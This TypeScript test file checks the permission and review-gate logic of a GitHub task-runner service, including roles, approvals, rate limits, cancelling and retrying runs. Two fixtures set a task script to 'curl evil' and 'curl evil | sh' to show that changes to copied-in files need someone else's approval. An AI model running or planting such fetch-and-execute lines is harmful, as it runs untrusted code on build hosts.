/**
 * The run service end to end on in-memory adapters: a code host in memory, SQLite in memory, the
 * embedded queue and a check reporter in memory. Every rule of the policy and every command's
 * outcome, in milliseconds, with no Docker, no server and no network.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { MemoryCheckReporter } from '../../adapters/local/memory-check-reporter.js';
import { MemoryRepoHost } from '../../adapters/local/memory-repo-host.js';
import { EmbeddedRunQueue } from '../../adapters/queue/embedded-run-queue.js';
import { SqliteRunStore } from '../../adapters/store/sqlite-run-store.js';
import type { RepoPermission } from '../../ports/repo-host.js';
import type { TaskTypeCatalog } from '../manifest/load-manifest.js';
import type { RepoRef, Requester, Run } from '../runs/run.js';
import { checkBeforeStart, RunService, type RequestOutcome, type RunTarget } from './run-service.js';

const repo: RepoRef = { owner: 'octo-org', name: 'archive', installationId: 7 };
const catalog: TaskTypeCatalog = new Map([
  ['ipfs/add-url', { params: { safeParse: (value: unknown) => ({ success: true as const, data: value }) } }],
]) as unknown as TaskTypeCatalog;
const silent = { info: () => undefined, warn: () => undefined, error: () => undefined, debug: () => undefined, child: () => silent } as never;

const user = (login: string): Requester => ({ kind: 'user', login });
const dockerfile = { Dockerfile: 'FROM busybox\nCOPY run.sh /run.sh\nCMD ["sh", "/run.sh"]\n', 'run.sh': 'echo hi > /out/hi\n', 'README.md': 'hi\n' };

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

async function world(options: { latencyMs?: number; commandsPerMinute?: number; roles?: Record<string, RepoPermission> } = {}) {
  const host = new MemoryRepoHost({ ...(options.latencyMs ? { latencyMs: options.latencyMs } : {}) });
  for (const [login, role] of Object.entries({ alice: 'write', mara: 'maintain', ada: 'admin', rita: 'read', tom: 'triage', otto: 'read', wendy: 'write', ...options.roles })) {
    host.setRole(login, role as RepoPermission);
  }
  const store = await SqliteRunStore.open(':memory:');
  const queue = new EmbeddedRunQueue({ store, log: silent });
  const checks = new MemoryCheckReporter();
  let next = 0;
  let clock = Date.parse('2026-12-01T10:00:00Z');
  const runs = new RunService({
    store,
    queue,
    checks,
    hostFor: async () => host,
    newId: () => `run-${++next}`,
    now: () => new Date((clock += 10)),
    gatewayUrl: 'https://gateway.example',
    commandsPerMinute: options.commandsPerMinute ?? 100,
    taskTypes: catalog,
    defaultImage: 'busybox:latest',
  });
  closers.push(async () => {
    await queue.close();
    await store.close();
  });
  const main = host.commit(dockerfile);
  host.setDefaultHead(main);
  /** A pull request by `author` whose head adds `files` to the default branch's. */
  const pullRequest = (number: number, author: string, files: Record<string, string> = { 'notes.md': 'more\n' }) => {
    const head = host.commit({ ...dockerfile, ...files });
    host.openPullRequest({ number, author, headSha: head, changedFiles: Object.keys(files) });
    return head;
  };
  const run = (requester: Requester, target: RunTarget, more: { task?: string; params?: Record<string, string>; expectedSha?: string } = {}) =>
    runs.request({ requester, repo, target, task: more.task ?? null, params: more.params ?? {}, trigger: 'comment', ...(more.expectedSha ? { expectedSha: more.expectedSha } : {}) });
  return { host, store, queue, checks, runs, main, pullRequest, run };
}

function queued(outcome: RequestOutcome): Run[] {
  if (outcome.kind !== 'queued') throw new Error(`expected queued, got ${outcome.kind}: ${'reason' in outcome ? outcome.reason : ''}`);
  return outcome.runs;
}

describe('request: roles', () => {
  it('a writer runs a pull request by a writer: the run pins the head, records who asked and the role needed, and its check run is queued', async () => {
    const w = await world();
    const head = w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    expect(run).toMatchObject({ sha: head, task: 'default', requestedBy: 'alice', requesterKind: 'user', requiredRole: 'write', number: 1, isPullRequest: true, approvals: [] });
    expect(w.checks.list({ sha: head })).toMatchObject([{ task: 'default', runId: run!.id, current: { status: 'queued' } }]);
    expect((await w.store.listQueued(10)).map((r) => r.id)).toEqual([run!.id]);
    const [admitted, entry] = await w.store.listAudit('octo-org/archive');
    expect(admitted).toMatchObject({ actor: 'alice', action: 'command', allowed: true, reason: '/run: within 100 commands a minute' });
    expect(entry).toMatchObject({ actor: 'alice', action: 'run', allowed: true, runId: run!.id });
    expect(entry!.reason).toContain(`pinned ${head}`);
  });

  it.each([
    ['rita', 'read', false],
    ['tom', 'triage', false],
    ['nobody', 'none', false],
    ['alice', 'write', true],
    ['mara', 'maintain', true],
    ['ada', 'admin', true],
  ])('@%s (%s) on an issue: allowed %s', async (login, role, allowed) => {
    const w = await world();
    const outcome = await w.run(user(login), { kind: 'issue', number: 5 });
    if (allowed) {
      expect(queued(outcome)[0]).toMatchObject({ sha: w.main, number: 5, isPullRequest: false });
    } else {
      expect(outcome).toEqual({ kind: 'refused', code: 'role', reason: `@${login} has the ${role} role on this repository; running tasks needs write or higher.` });
      expect(w.checks.list()).toEqual([]);
      expect(await w.store.listQueued(10)).toEqual([]);
      expect(await w.store.listAudit('octo-org/archive')).toMatchObject([
        { actor: login, action: 'command', allowed: true },
        { actor: login, action: 'run', allowed: false, reason: outcome.kind === 'refused' ? outcome.reason : '' },
      ]);
    }
  });

  it('a manifest asking for maintain refuses a writer and records maintain on the runs it allows', async () => {
    const w = await world();
    const sha = w.host.commit({ 'task-mgmt.yml': 'version: 1\npermission: maintain\ntasks:\n  fetch:\n    uses: ipfs/add-url\n    with: { url: "https://example.org/a" }\n' });
    w.host.setDefaultHead(sha);
    expect(await w.run(user('alice'), { kind: 'issue', number: 2 })).toMatchObject({ kind: 'refused', code: 'role', reason: expect.stringContaining('needs maintain or higher') });
    expect(queued(await w.run(user('mara'), { kind: 'issue', number: 2 }))[0]).toMatchObject({ requiredRole: 'maintain', taskType: 'ipfs/add-url' });
  });

  it('a service token is admin without asking GitHub for a role, and the review gate still holds', async () => {
    const w = await world();
    w.pullRequest(3, 'otto');
    const service: Requester = { kind: 'service', login: 'service:0123456789ab' };
    const outcome = await w.run(service, { kind: 'pull_request', number: 3 });
    expect(outcome).toMatchObject({ kind: 'waiting', reason: expect.stringContaining('needs an approving review') });
    expect(w.host.calls.map((c) => c.what)).not.toContain('getPermission service:0123456789ab');
    const [run] = queued(await w.run(service, { kind: 'default_branch' }));
    expect(run).toMatchObject({ requesterKind: 'service', requestedBy: 'service:0123456789ab', number: null });
  });
});

describe('request: the review gate', () => {
  it("an outsider's pull request waits for an approval of its head, shown as action_required, then runs with that approval recorded", async () => {
    const w = await world();
    const head = w.pullRequest(4, 'otto');
    const waiting = await w.run(user('alice'), { kind: 'pull_request', number: 4 });
    expect(waiting).toMatchObject({ kind: 'waiting', sha: head });
    expect(waiting.kind === 'waiting' && waiting.reason).toContain('its author @otto has the read role (below write)');
    expect(w.checks.list({ sha: head })).toMatchObject([{ task: 'default', current: { status: 'completed', conclusion: 'action_required' } }]);
    expect(await w.store.listQueued(10)).toEqual([]);

    const review = w.host.review(4, 'wendy', 'APPROVED');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 4 }));
    expect(run!.approvals).toEqual([{ reviewId: review.id, reviewer: 'wendy', commit: head }]);
  });

  it('an approval of an older commit, by a reader, or withdrawn by a later change request does not count', async () => {
    const w = await world();
    const old = w.pullRequest(5, 'otto');
    w.host.review(5, 'wendy', 'APPROVED', old);
    w.host.push(5, w.host.commit({ ...dockerfile, 'notes.md': 'v2\n' }));
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 5 })).kind).toBe('waiting');
    w.host.review(5, 'rita', 'APPROVED');
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 5 })).kind).toBe('waiting');
    w.host.review(5, 'wendy', 'APPROVED');
    w.host.review(5, 'wendy', 'CHANGES_REQUESTED');
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 5 })).kind).toBe('waiting');
    w.host.review(5, 'wendy', 'APPROVED');
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 5 })).kind).toBe('queued');
  });

  it("a change to a file the Dockerfile copies in needs someone else's approval, even from a maintainer", async () => {
    const w = await world();
    w.pullRequest(6, 'mara', { 'run.sh': 'curl evil\n' });
    const waiting = await w.run(user('mara'), { kind: 'pull_request', number: 6 });
    expect(waiting.kind === 'waiting' && waiting.reason).toContain('it changes the task (`run.sh`)');
    w.host.review(6, 'mara', 'APPROVED');
    const still = await w.run(user('mara'), { kind: 'pull_request', number: 6 });
    expect(still.kind === 'waiting' && still.reason).toContain('other than @mara');
    w.host.review(6, 'alice', 'APPROVED');
    expect((await w.run(user('mara'), { kind: 'pull_request', number: 6 })).kind).toBe('queued');
  });

  it("a change to a source of a backtick-continued COPY (`# escape=`) needs someone else's approval, even from a maintainer", async () => {
    const w = await world();
    const windowsStyle = { Dockerfile: '# escape=`\nFROM busybox\nCOPY `\n  run.sh `\n  /run.sh\nCMD ["sh", "/run.sh"]\n' };
    w.host.setDefaultHead(w.host.commit({ ...dockerfile, ...windowsStyle }));
    const head = w.host.commit({ ...dockerfile, ...windowsStyle, 'run.sh': 'curl evil | sh\n' });
    w.host.openPullRequest({ number: 9, author: 'mara', headSha: head, changedFiles: ['run.sh'] });
    const waiting = await w.run(user('mara'), { kind: 'pull_request', number: 9 });
    expect(waiting).toMatchObject({ kind: 'waiting', reason: expect.stringContaining('it changes the task (`run.sh`)') });
    expect(await w.store.listQueued(10)).toEqual([]);
  });

  it('a pull request listing 3,000 files changes the task: it waits for someone else', async () => {
    const w = await world();
    const head = w.host.commit(dockerfile);
    w.host.openPullRequest({ number: 10, author: 'mara', headSha: head, changedFiles: Array.from({ length: 3000 }, (_, i) => `docs/${i}.md`) });
    const waiting = await w.run(user('mara'), { kind: 'pull_request', number: 10 });
    expect(waiting).toMatchObject({ kind: 'waiting', reason: expect.stringContaining('other than @mara') });
  });

  it('a closed pull request and a moved head are refused, saying why', async () => {
    const w = await world();
    const head = w.pullRequest(7, 'wendy');
    const stale = await w.run(user('alice'), { kind: 'pull_request', number: 7 }, { expectedSha: 'f'.repeat(40) });
    expect(stale).toMatchObject({ kind: 'refused', code: 'head_moved', reason: expect.stringContaining(head.slice(0, 12)) });
    w.host.openPullRequest({ number: 8, author: 'wendy', headSha: head, changedFiles: [], state: 'closed' });
    expect(await w.run(user('alice'), { kind: 'pull_request', number: 8 })).toMatchObject({ kind: 'refused', code: 'closed' });
  });
});

describe('request: the task definition', () => {
  const manifest = [
    'version: 1',
    'tasks:',
    '  fetch:',
    '    uses: ipfs/add-url',
    '    with: { url: "https://example.org/a" }',
    '  process:',
    '    needs: [fetch]',
    '    dockerfile: Dockerfile',
    '    params:',
    '      lang: { default: en, pattern: "[a-z]{2}" }',
    '',
  ].join('\n');

  it('runs the tasks in needs order, parameters checked and set, the needed run ids recorded', async () => {
    const w = await world();
    w.host.setDefaultHead(w.host.commit({ ...dockerfile, 'task-mgmt.yml': manifest }));
    const runs = queued(await w.run(user('alice'), { kind: 'issue', number: 1 }, { params: { lang: 'de' } }));
    expect(runs.map((r) => [r.task, r.params, r.needs])).toEqual([
      ['fetch', {}, []],
      ['process', { lang: 'de' }, [runs[0]!.id]],
    ]);
  });

  it('refuses a bad parameter, an unknown parameter and an unknown task by name, queueing nothing', async () => {
    const w = await world();
    w.host.setDefaultHead(w.host.commit({ ...dockerfile, 'task-mgmt.yml': manifest }));
    expect(await w.run(user('alice'), { kind: 'issue', number: 1 }, { params: { lang: 'deu' } })).toMatchObject({ kind: 'refused', code: 'params', reason: expect.stringContaining('lang') });
    expect(await w.run(user('alice'), { kind: 'issue', number: 1 }, { params: { colour: 'red' } })).toMatchObject({ kind: 'refused', code: 'params', reason: 'no task declares the parameter `colour`.' });
    expect(await w.run(user('alice'), { kind: 'issue', number: 1 }, { task: 'nope' })).toMatchObject({ kind: 'refused', code: 'not_found', reason: expect.stringContaining('the tasks are `fetch`, `process`') });
    expect(await w.store.listQueued(10)).toEqual([]);
  });

  it('a manifest error is a failed `task-mgmt / manifest` check run with its line, and a refusal naming it', async () => {
    const w = await world();
    const sha = w.host.commit({ 'task-mgmt.yml': 'version: 1\ntasks:\n  a:\n    timeout: soon\n    dockerfile: Dockerfile\n', Dockerfile: 'FROM busybox\n' });
    w.host.setDefaultHead(sha);
    const outcome = await w.run(user('alice'), { kind: 'issue', number: 1 });
    expect(outcome).toMatchObject({ kind: 'refused', code: 'manifest', reason: expect.stringContaining('`task-mgmt.yml` line 4') });
    expect(w.checks.list({ task: 'manifest' })).toMatchObject([{ current: { conclusion: 'failure', annotations: [{ path: 'task-mgmt.yml', line: 4 }] } }]);
  });

  it('a commit that declares no task is refused', async () => {
    const w = await world();
    w.host.setDefaultHead(w.host.commit({ 'README.md': 'nothing\n' }));
    expect(await w.run(user('alice'), { kind: 'issue', number: 1 })).toMatchObject({ kind: 'refused', code: 'not_runnable', reason: expect.stringContaining('declares no task') });
  });
});

describe('request: GitHub round trips before the check run', () => {
  it('a pull request with a Dockerfile: two rounds, nothing asked twice, even when the commenter is the author', async () => {
    const w = await world({ latencyMs: 5 });
    w.pullRequest(1, 'alice');
    queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    const rounds = w.host.rounds();
    expect(rounds.length).toBeLessThanOrEqual(3);
    expect(rounds[0]!.sort()).toEqual(['getPermission alice', 'getPullRequest 1', 'listChangedFiles 1', 'listReviews 1']);
    const asked = w.host.calls.map((c) => c.what);
    expect(new Set(asked).size).toBe(asked.length);
  });

  it("an outsider's approved pull request with a task-mgmt.yml: three rounds at most", async () => {
    const w = await world({ latencyMs: 5 });
    w.pullRequest(2, 'otto', { 'task-mgmt.yml': 'version: 1\ntasks:\n  build:\n    dockerfile: docker/Dockerfile\n', 'docker/Dockerfile': 'FROM busybox\n' });
    w.host.review(2, 'wendy', 'APPROVED');
    w.host.review(2, 'mara', 'APPROVED');
    queued(await w.run(user('alice'), { kind: 'pull_request', number: 2 }));
    const rounds = w.host.rounds();
    expect(rounds).toHaveLength(3);
    expect(rounds[1]).toEqual(expect.arrayContaining(['getPermission otto', 'getPermission wendy', 'getPermission mara', 'readFile task-mgmt.yml']));
    expect(rounds[2]).toEqual(['readFile docker/Dockerfile']);
  });

  it('an issue with the default branch known from the webhook: two rounds', async () => {
    const w = await world({ latencyMs: 5 });
    queued(await w.run(user('alice'), { kind: 'issue', number: 9, defaultBranch: 'main' }));
    expect(w.host.rounds()).toHaveLength(2);
  });

  it('GitHub failing to answer fails the request: nothing is recorded or queued', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    w.host.failNext('listReviews', Object.assign(new Error('GitHub did not answer'), { status: 502 }));
    await expect(w.run(user('alice'), { kind: 'pull_request', number: 1 })).rejects.toThrow('GitHub did not answer');
    expect(await w.store.listRuns({})).toEqual([]);
    expect(w.checks.list()).toEqual([]);
  });
});

describe('the command limit', () => {
  it('refuses past COMMANDS_PER_MINUTE, counting refusals, and spares the App', async () => {
    const w = await world({ commandsPerMinute: 2 });
    await w.run(user('rita'), { kind: 'issue', number: 1 });
    await w.run(user('rita'), { kind: 'issue', number: 1 });
    expect(await w.run(user('rita'), { kind: 'issue', number: 1 })).toMatchObject({ kind: 'refused', code: 'rate_limited', reason: expect.stringContaining('the limit is 2') });
    const app: Requester = { kind: 'app', login: 'task-mgmt' };
    for (let i = 0; i < 3; i += 1) expect((await w.run(app, { kind: 'default_branch' })).kind).toBe('queued');
  });

  it('says until when at the first refusal past the limit, then refuses silently; /help and near misses count', async () => {
    const w = await world({ commandsPerMinute: 2 });
    const rita = user('rita');
    const target = { kind: 'issue', number: 1 } as const;
    expect((await w.runs.help({ requester: rita, repo, target })).kind).toBe('tasks');
    expect(await w.runs.usage({ requester: rita, repo, number: 1, message: 'not a command' })).toEqual({ kind: 'usage', message: 'not a command' });
    // The clock starts at 10:00:00 and moves 10 ms a reading: the second command was at about
    // 10:00:00.03, so fewer than two are in the window from 10:01:00.03 on.
    expect(await w.run(rita, target)).toEqual({
      kind: 'refused',
      code: 'rate_limited',
      reason: 'rate-limited until 10:01:01 UTC: rita gave 2 commands in the last minute, and the limit is 2.',
    });
    expect(await w.runs.help({ requester: rita, repo, target })).toMatchObject({ kind: 'refused', code: 'rate_limited', silent: true });
    expect(await w.runs.usage({ requester: rita, repo, number: 1, message: 'x' })).toMatchObject({ kind: 'refused', silent: true });
    expect(await w.runs.cancel({ requester: rita, repo, scope: { kind: 'all', number: 1 } })).toMatchObject({ kind: 'refused', silent: true });
    expect(await w.runs.retry({ requester: rita, repo, target })).toMatchObject({ kind: 'refused', silent: true });
    const commands = (await w.store.listAudit('octo-org/archive')).filter((entry) => entry.action === 'command');
    expect(commands.map((entry) => [entry.allowed, entry.reason])).toEqual([
      [true, '/help: within 2 commands a minute'],
      [true, 'a comment that is no command: within 2 commands a minute'],
      [false, '/run: refused, past 2 commands a minute'],
      [false, '/help: refused, past 2 commands a minute'],
      [false, 'a comment that is no command: refused, past 2 commands a minute'],
      [false, '/cancel: refused, past 2 commands a minute'],
      [false, '/retry: refused, past 2 commands a minute'],
    ]);
  });

  it('counts /retry once however many tasks it runs again', async () => {
    const w = await world({ commandsPerMinute: 2 });
    const sha = w.host.commit({ 'task-mgmt.yml': 'version: 1\ntasks:\n  a:\n    dockerfile: Dockerfile\n  b:\n    dockerfile: Dockerfile\n', Dockerfile: 'FROM busybox\n' });
    w.host.setDefaultHead(sha);
    const runs = queued(await w.run(user('alice'), { kind: 'issue', number: 1 }));
    for (const run of runs) await w.store.transition(run.id, 'cancel', new Date());
    expect((await w.runs.retry({ requester: user('alice'), repo, target: { kind: 'issue', number: 1 } })).kind).toBe('queued');
  });
});

describe('cancel', () => {
  it("cancels a pull request's queued runs, ends their check runs, and says who", async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    const outcome = await w.runs.cancel({ requester: user('mara'), repo, scope: { kind: 'all', number: 1 } });
    expect(outcome).toMatchObject({ kind: 'cancelled', runs: [{ id: run!.id, state: 'cancelled', error: 'cancelled by @mara' }] });
    expect(w.checks.get(run!.checkRunId!)!.current).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
    expect(await w.runs.cancel({ requester: user('mara'), repo, scope: { kind: 'all', number: 1 } })).toMatchObject({ kind: 'refused', code: 'nothing_to_do' });
  });

  it('refuses a reader in words about cancelling, and a run of another repository as not found', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    expect(await w.runs.cancel({ requester: user('rita'), repo, scope: { kind: 'run', runId: run!.id } })).toEqual({
      kind: 'refused',
      code: 'role',
      reason: '@rita has the read role on this repository; cancelling runs needs write or higher.',
    });
    const other = { ...repo, name: 'other' };
    expect(await w.runs.cancel({ requester: user('alice'), repo: other, scope: { kind: 'run', runId: run!.id } })).toMatchObject({ kind: 'refused', code: 'not_found' });
    expect(await w.runs.cancel({ requester: user('alice'), scope: { kind: 'run', runId: 'nope' } })).toMatchObject({ kind: 'refused', code: 'not_found' });
    expect((await w.store.getRun(run!.id))!.state).toBe('queued');
  });

  it('a service cancels by run id alone; a run that already ended is reported as such', async () => {
    const w = await world();
    const [run] = queued(await w.run(user('alice'), { kind: 'issue', number: 3 }));
    const service: Requester = { kind: 'service', login: 'service:abc' };
    expect(await w.runs.cancel({ requester: service, scope: { kind: 'run', runId: run!.id } })).toMatchObject({ kind: 'cancelled', runs: [{ error: 'cancelled by service:abc through the API' }] });
    expect(await w.runs.cancel({ requester: service, scope: { kind: 'run', runId: run!.id } })).toMatchObject({ kind: 'already_ended', run: { state: 'cancelled' } });
    // That it has ended is said to anyone who can read the repository, before any role is looked up (the API's 409).
    expect(await w.runs.cancel({ requester: user('rita'), scope: { kind: 'run', runId: run!.id } })).toMatchObject({ kind: 'already_ended' });
  });

  it("a stranger naming a private repository's run by id is told it does not exist, ended or not", async () => {
    const w = await world();
    const [ended] = queued(await w.run(user('alice'), { kind: 'issue', number: 3 }));
    await w.runs.cancel({ requester: user('alice'), scope: { kind: 'run', runId: ended!.id } });
    const [live] = queued(await w.run(user('alice'), { kind: 'issue', number: 4 }));
    for (const run of [ended!, live!]) {
      expect(await w.runs.cancel({ requester: user('stranger'), scope: { kind: 'run', runId: run.id } })).toEqual({ kind: 'refused', code: 'not_found', reason: `there is no run \`${run.id}\`.` });
    }
    expect((await w.store.getRun(live!.id))!.state).toBe('queued');
  });
});

describe('retry and re-run', () => {
  it('/retry runs each failed task again at its SHA; with nothing failed it says so', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [first] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    expect(await w.runs.retry({ requester: user('alice'), repo, target: { kind: 'pull_request', number: 1 } })).toMatchObject({ kind: 'refused', code: 'nothing_to_do' });
    await w.store.transition(first!.id, 'claim', new Date());
    await w.store.transition(first!.id, 'fail', new Date(), { error: 'exit 1' });
    const [again] = queued(await w.runs.retry({ requester: user('alice'), repo, target: { kind: 'pull_request', number: 1 } }));
    expect(again).toMatchObject({ task: 'default', sha: first!.sha });
  });

  it('the Re-run button is refused for a reader and once the head has moved', async () => {
    const w = await world();
    const head = w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    expect(await w.runs.rerun({ requester: user('rita'), run: run!, headSha: head })).toMatchObject({ kind: 'refused', code: 'role' });
    w.host.push(1, w.host.commit({ ...dockerfile, 'notes.md': 'v3\n' }));
    expect(await w.runs.rerun({ requester: user('mara'), run: run!, headSha: head })).toMatchObject({ kind: 'refused', code: 'head_moved' });
    const audit = await w.store.listAudit('octo-org/archive');
    expect(audit.filter((e) => e.action === 'rerun').map((e) => e.allowed)).toEqual([false, false]);
  });
});

describe('a push to a pull request', () => {
  it('cancels the runs of the old head and marks waiting approvals stale', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    w.pullRequest(2, 'otto');
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 2 })).kind).toBe('waiting');
    const newHead = w.host.commit({ ...dockerfile, 'notes.md': 'pushed\n' });
    w.host.push(1, newHead);
    expect(await w.runs.pushed({ repo, number: 1, headSha: newHead })).toEqual({ cancelled: [run!.id], stale: 0 });
    expect((await w.store.getRun(run!.id))!.error).toContain('new commits were pushed to #1');
    w.host.push(2, newHead);
    expect(await w.runs.pushed({ repo, number: 2, headSha: newHead })).toEqual({ cancelled: [], stale: 1 });
    expect(w.checks.list({ task: 'default' }).find((c) => c.current.title.toLowerCase().includes('stale'))).toBeDefined();
  });

  it('keeps the runs when the new head says cancel_on_push: false', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    const newHead = w.host.commit({ ...dockerfile, 'task-mgmt.yml': 'version: 1\ncancel_on_push: false\ntasks:\n  default:\n    dockerfile: Dockerfile\n' });
    expect(await w.runs.pushed({ repo, number: 1, headSha: newHead })).toEqual({ cancelled: [], stale: 0 });
    expect((await w.store.getRun(run!.id))!.state).toBe('queued');
  });
});

describe('a pull request closed or merged', () => {
  it('cancels its queued runs saying why, ends its approval requests, and records it', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    w.pullRequest(2, 'otto');
    expect((await w.run(user('alice'), { kind: 'pull_request', number: 2 })).kind).toBe('waiting');
    w.pullRequest(3, 'wendy');
    const [untouched] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 3 }));

    expect(await w.runs.closed({ repo, number: 1, merged: true })).toEqual({ cancelled: [run!.id], ended: 0 });
    expect(await w.store.getRun(run!.id)).toMatchObject({ state: 'cancelled', error: 'pull request #1 was merged' });
    expect(w.checks.list({ sha: run!.sha }).find((c) => c.runId === run!.id)?.current).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
    expect(await w.runs.closed({ repo, number: 2, merged: false })).toEqual({ cancelled: [], ended: 1 });
    expect(w.checks.list({ task: 'default' }).find((c) => c.current.title.includes('#2 was closed'))?.current).toMatchObject({ status: 'completed' });
    expect((await w.store.getRun(untouched!.id))!.state).toBe('queued');

    const audit = await w.store.listAudit('octo-org/archive');
    expect(audit.filter((entry) => entry.action === 'close').map((entry) => [entry.number, entry.reason])).toEqual([
      [1, `pull request #1 was merged; cancelled ${run!.id}; 0 approval request(s) ended`],
      [2, 'pull request #2 was closed; cancelled nothing; 1 approval request(s) ended'],
    ]);
  });
});

describe('the check before the task starts', () => {
  it('passes while the head and the role hold, and refuses when either changed', async () => {
    const w = await world();
    w.pullRequest(1, 'wendy');
    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
    expect(await checkBeforeStart(w.host, run!)).toMatchObject({ allowed: true, note: expect.stringContaining('is still the head') });
    w.host.setRole('alice', 'read');
    expect(await checkBeforeStart(w.host, run!)).toMatchObject({ allowed: false, reason: expect.stringContaining('@alice has the read role') });
    w.host.setRole('alice', 'write');
    w.host.push(1, w.host.commit({ 'x.txt': '1' }));
    expect(await checkBeforeStart(w.host, run!)).toMatchObject({ allowed: false, reason: expect.stringContaining('moved') });
  });

  it('uses the role the request needed, for every kind of requester', async () => {
    const w = await world();
    const [run] = queued(await w.run(user('mara'), { kind: 'issue', number: 1 }));
    const needsMaintain = { ...run!, requiredRole: 'maintain' as const };
    expect((await checkBeforeStart(w.host, needsMaintain)).allowed).toBe(true);
    w.host.setRole('mara', 'write');
    expect(await checkBeforeStart(w.host, needsMaintain)).toMatchObject({ allowed: false, reason: expect.stringContaining('needs maintain or higher') });
    const byService = { ...run!, requesterKind: 'service' as const, requestedBy: 'service:abc', requiredRole: 'admin' as const };
    expect(await checkBeforeStart(w.host, byService)).toMatchObject({ allowed: true });
  });
});

describe('help', () => {
  it('lists the tasks at the head, or says why it cannot', async () => {
    const w = await world();
    expect(await w.runs.help({ requester: user('alice'), repo, target: { kind: 'issue', number: 1 } })).toMatchObject({ kind: 'tasks', sha: w.main, manifest: { source: 'Dockerfile' } });
    w.host.failNext('getDefaultBranchHead', new Error('GitHub is down'));
    expect(await w.runs.help({ requester: user('alice'), repo, target: { kind: 'issue', number: 1 } })).toEqual({ kind: 'unavailable', error: 'GitHub is down' });
  });
});
